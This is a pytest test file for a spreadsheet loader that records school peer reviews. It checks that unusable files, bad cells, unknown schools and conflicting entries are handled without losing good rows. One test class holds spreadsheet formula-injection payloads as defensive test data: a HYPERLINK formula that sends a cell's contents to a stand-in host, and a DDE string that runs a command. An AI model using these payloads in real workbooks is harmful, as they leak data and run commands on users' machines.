"""Bad input, end to end: each has its coded message, good rows load, nothing is lost, nothing crashes."""

import json
import shutil
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import pytest

from peerreview.access import LOCAL
from peerreview.errors import NothingUsable
from peerreview.load import Candidate, prepare, publish
from peerreview.questions.ask import ask
from peerreview.store.store import Store
from peerreview.workbook.issues import Issue
from tests.store.stores import GIVEN, SCHOOLS, leftovers, load, review_dates, shifted, timetable
from tests.workbooks import rewrite_part, write_xlsx

GOOD, OTHER, THIRD = SCHOOLS
DAY = date(2026, 3, 10)
Maker = Callable[[Path], Path]


def raw(name: str, data: bytes) -> Maker:
    def make(folder: Path) -> Path:
        (folder / name).write_bytes(data)
        return folder / name

    return make


def encrypted(folder: Path) -> Path:
    """The beginning of an OLE file with an EncryptedPackage, as Excel writes a workbook with a password."""
    names = "".join(name.ljust(32, "\0") for name in ("Root Entry", "EncryptionInfo", "EncryptedPackage"))
    return raw("book.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + names.encode("utf-16-le") + bytes(2048))(
        folder
    )


def huge(folder: Path) -> Path:
    """A workbook that unpacks to far more than it says."""
    path = timetable(folder, name="book.xlsx")
    return rewrite_part(path, "xl/worksheets/sheet1.xml", lambda data: data + b" " * 700_000_000)


def truncated(folder: Path) -> Path:
    path = timetable(folder, name="book.xlsx")
    path.write_bytes(path.read_bytes()[:-900])
    return path


def no_known_heading(folder: Path) -> Path:
    return write_xlsx(folder / "book.xlsx", Sheet1=[("Colour", "Shape"), ("red", "round")])


def not_a_workbook(folder: Path) -> Path:
    path = folder / "book.xlsx"
    with ZipFile(path, "w", ZIP_DEFLATED) as package:
        package.writestr("photo.jpg", b"\xff\xd8\xff")
    return path


@pytest.mark.parametrize(
    ("make", "code"),
    [
        (raw("book.xlsx", b"Just some words, and no table."), "not_a_spreadsheet|no_known_sheet"),
        (raw("book.pdf", b"%PDF-1.7\n"), "pdf_file"),
        (not_a_workbook, "zip_file"),
        (encrypted, "password_protected"),
        (raw("book.xlsx", b""), "empty_file"),
        (raw("book.csv", b"\n\n\n"), "empty_file|nothing_in_it"),
        (huge, "unpacks_too_large"),
        (truncated, "damaged_file"),
        (no_known_heading, "no_known_sheet"),
        (lambda folder: folder / "gone.xlsx", "cannot_open"),
    ],
    ids=["words", "pdf", "zip", "encrypted", "empty", "blank", "huge", "truncated", "no known heading", "gone"],
)
def test_a_file_that_cannot_be_used(store: Store, tmp_path: Path, make: Maker, code: str) -> None:
    load(store, timetable(tmp_path))
    (tmp_path / "in").mkdir()
    bad = make(tmp_path / "in")
    with pytest.raises(NothingUsable) as refused:
        prepare(store, [bad], GIVEN)
    (issue,) = refused.value.issues
    assert issue.code in code.split("|")
    assert (issue.severity, issue.file) == ("refused", bad.name)
    assert issue.problem.endswith(".")
    assert issue.fix
    assert f"{bad.name}: {issue.problem}" in str(refused.value)

    among_good = prepare(store, [bad, timetable(tmp_path, 1)], GIVEN)
    assert [issue.code for issue in among_good.refused] == [issue.code]
    assert review_dates(store) == shifted(0), "the live snapshot is untouched until publishing"
    publish(among_good)
    assert review_dates(store) == shifted(1)
    assert leftovers(store) == []


def found(candidate: Candidate, code: str) -> list[Issue]:
    return [issue for issue in candidate.issues if issue.code == code]


def asked(store: Store, question: str, **how: Any) -> list[dict[str, Any]]:
    frame = ask(question, LOCAL, store=store, as_of=date(2026, 11, 22), **how)
    return [{str(k): v for k, v in row.items()} for row in frame.astype(object).to_dict("records")]


REGISTER = [("School", "URN"), (GOOD, "990301"), (OTHER, "990302")]
REVIEWS = ("School", "Review date", "Workshop", "Theme", "Status")


class TestARowThatCannotBePlaced:
    """It is kept whole among the issues and tried again at every later load."""

    def test_an_unknown_school(self, store: Store, tmp_path: Path) -> None:
        rows = [REVIEWS, (GOOD, DAY, "tbc", None, None), ("Wrenmore Primry", DAY, "tbc", "Our impact", None)]
        candidate = prepare(store, [write_xlsx(tmp_path / "book.xlsx", Schools=REGISTER, Reviews=rows)], GIVEN)
        (issue,) = found(candidate, "unknown_school")
        assert (issue.severity, issue.cell, issue.value) == ("row left out", "Reviews!A3", "Wrenmore Primry")
        assert "Did you mean Wrenmoor Primary School" in issue.problem + issue.fix
        kept = json.loads(issue.row_values or "")
        assert (kept["School"], kept["Theme"]) == ("Wrenmore Primry", "Our impact")
        assert [(c.sheet, c.rows_in, c.loaded, c.left_out) for c in candidate.counts if c.kind == "reviews"] == [
            ("Reviews", 2, 1, 1)
        ]

    def test_it_comes_in_once_its_school_is_known(self, store: Store, tmp_path: Path) -> None:
        (tmp_path / "schools").mkdir()
        rows = [REVIEWS, (THIRD, DAY, "tbc", None, None)]
        load(
            store,
            write_xlsx(tmp_path / "register.xlsx", Schools=REGISTER),
            write_xlsx(tmp_path / "diary.xlsx", Reviews=rows),
        )
        assert review_dates(store) == set()
        load(store, write_xlsx(tmp_path / "register.xlsx", Schools=[*REGISTER, (THIRD, "990303")]))
        assert review_dates(store) == {DAY}
        assert not [row for row in asked(store, "issues") if row["code"] == "unknown_school"]

    def test_an_unknown_review(self, store: Store, tmp_path: Path) -> None:
        actions = [("School", "Academic year", "Action"), (GOOD, "2019/20", "Read more"), (GOOD, "2025/26", "Read")]
        book = write_xlsx(
            tmp_path / "book.xlsx", Schools=REGISTER, Reviews=[REVIEWS, (GOOD, DAY, None, None, None)], Actions=actions
        )
        candidate = prepare(store, [book], GIVEN)
        (issue,) = found(candidate, "unknown_review")
        assert (issue.severity, issue.cell) == ("row left out", "Actions!A2")
        publish(candidate)
        assert [row["action"] for row in asked(store, "actions")] == ["Read"]


class TestACellThatCannotBeUnderstood:
    """The row loads with the cell empty, and its text is kept in the issue."""

    @pytest.mark.parametrize(
        ("column", "typed", "code"),
        [
            ("Review date", "31/02/2026", "date_impossible"),
            ("Review date", "some day", "date_not_understood|date_is_a_word"),
            ("Review date", date(1926, 3, 10), "date_year_unlikely"),
            ("Workshop", "soonish", "milestone_not_understood|date_not_understood"),
            ("Theme", "Looking sideways", "unknown_theme"),
            ("Status", "wobbly", "unknown_choice"),
        ],
    )
    def test_the_row_loads_without_it(self, store: Store, tmp_path: Path, column: str, typed: Any, code: str) -> None:
        row: dict[str, Any] = dict(zip(REVIEWS, (GOOD, DAY, "24/03/2026", "Our impact", None), strict=True))
        row[column] = typed
        book = write_xlsx(tmp_path / "book.xlsx", Schools=REGISTER, Reviews=[REVIEWS, tuple(row.values())])
        candidate = prepare(store, [book], GIVEN)
        (issue,) = (i for i in candidate.issues if i.severity == "cell left out")
        assert issue.code in code.split("|")
        assert issue.cell == f"Reviews!{'ABCDE'[REVIEWS.index(column)]}2"
        assert issue.heading == column
        assert str(typed)[:4] in issue.value or str(typed)[-4:] in issue.value or "1926" in issue.value
        assert [c.loaded for c in candidate.counts if c.kind == "reviews"] == [1]
        publish(candidate)
        assert [row["school"] for row in asked(store, "stage_progress")][:1] == [GOOD]

    def test_dates_in_the_american_order(self, store: Store, tmp_path: Path) -> None:
        rows = [REVIEWS, (GOOD, "03/25/2026", None, None, None), (OTHER, "05/06/2026", None, None, None)]
        candidate = prepare(store, [write_xlsx(tmp_path / "b.xlsx", Schools=REGISTER, Reviews=rows)], GIVEN)
        assert next((i.cell, i.value) for i in found(candidate, "dates_month_first")) == ("Reviews!B2", "03/25/2026")
        publish(candidate)
        assert {date(2026, 3, 25), date(2026, 5, 6)} <= set(review_dates(store)), "one date proves its column"
        assert len(asked(store, "reviews")) == 2


class TestTheSameReviewInTwoFiles:
    @pytest.fixture
    def both(self, tmp_path: Path) -> tuple[Path, Path]:
        """A register of reviews, and a diary that disagrees with it in one cell and adds another."""
        first = [("School", "Review date", "Focus", "Workshop"), (GOOD, DAY, "Reading", None)]
        second = [("School", "Review date", "Focus", "Workshop"), (GOOD, DAY, "Writing", "24/03/2026")]
        return (
            write_xlsx(tmp_path / "register.xlsx", Schools=REGISTER, Reviews=first),
            write_xlsx(tmp_path / "diary.xlsx", Diary=second),
        )

    def test_it_is_one_review(self, store: Store, both: tuple[Path, Path]) -> None:
        load(store, *both)
        assert len(asked(store, "reviews")) == 1

    def test_the_last_loaded_filled_cell_wins_and_both_are_named(self, store: Store, both: tuple[Path, Path]) -> None:
        candidate = prepare(store, both, GIVEN)
        (issue,) = found(candidate, "conflict")
        assert issue.severity == "advice"
        said = f"{issue.problem} {issue.fix}"
        assert (issue.file, issue.cell, issue.value) == ("register.xlsx", "Reviews!C2", "Reading")
        assert "Diary!C2 of diary.xlsx" in said
        assert "Writing" in said
        publish(candidate)
        assert asked(store, "reviews")[0]["focus"] == "Writing"

    def test_a_blank_never_wipes(self, store: Store, both: tuple[Path, Path]) -> None:
        load(store, *reversed(both))
        steps = {row["step"]: row for row in asked(store, "stage_progress")}
        assert steps["Workshop"]["state"] == "done (assumed)"
        assert asked(store, "reviews")[0]["focus"] == "Reading"


class TestFormulasAsText:
    EVIL = ('=HYPERLINK("http://example.org/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3")

    def test_they_stay_text_and_come_out_harmless(self, store: Store, tmp_path: Path) -> None:
        from typer.testing import CliRunner

        from peerreview.cli import app

        rows = [("School", "Review date", "Action"), *((GOOD, DAY, text) for text in self.EVIL)]
        book = write_xlsx(
            tmp_path / "book.xlsx", Schools=REGISTER, Reviews=[REVIEWS, (GOOD, DAY, None, None, None)], Actions=rows
        )
        load(store, book)
        assert {row["action"] for row in asked(store, "actions")} == set(self.EVIL)
        out = CliRunner().invoke(app, ["ask", "actions", "--store", str(store.folder), "--format", "csv"]).stdout
        for text in self.EVIL:
            assert f",{text[0]}" not in out
            assert f',"{text[0]}' not in out

    def test_as_the_name_of_a_school_too(self, store: Store, tmp_path: Path) -> None:
        load(store, write_xlsx(tmp_path / "t.xlsx", T=[("School", "Review date"), (self.EVIL[0], DAY)]))
        assert [row["school"] for row in asked(store, "schools")] == [self.EVIL[0]]


def test_everything_wrong_at_once_still_loads_the_good_rows(store: Store, tmp_path: Path) -> None:
    rows: list[tuple[Any, ...]] = [
        REVIEWS,
        (GOOD, DAY, "24/03/2026", "Our impact", None),
        (OTHER, "31/02/2026", "soonish", "Looking sideways", "wobbly"),
        ("Nowhere School", DAY, None, None, None),
        (None, DAY, None, None, None),
        ("Total", 4, None, None, None),
    ]
    candidate = prepare(store, [write_xlsx(tmp_path / "b.xlsx", Schools=REGISTER, Reviews=rows)], GIVEN)
    (count,) = (c for c in candidate.counts if c.kind == "reviews")
    assert (count.rows_in, count.loaded, count.left_out) == (5, 2, 3)
    assert {i.cell for i in candidate.issues} >= {"Reviews!B3", "Reviews!C3", "Reviews!D3", "Reviews!E3", "Reviews!A4"}
    publish(candidate)
    assert {row["school"] for row in asked(store, "reviews")} == {GOOD, OTHER}


def test_the_files_are_left_as_they_were(store: Store, tmp_path: Path) -> None:
    file = timetable(tmp_path)
    before = (file.read_bytes(), file.stat().st_mtime_ns)
    shutil.copystat(file, file)
    load(store, file)
    assert (file.read_bytes(), file.stat().st_mtime_ns) == before
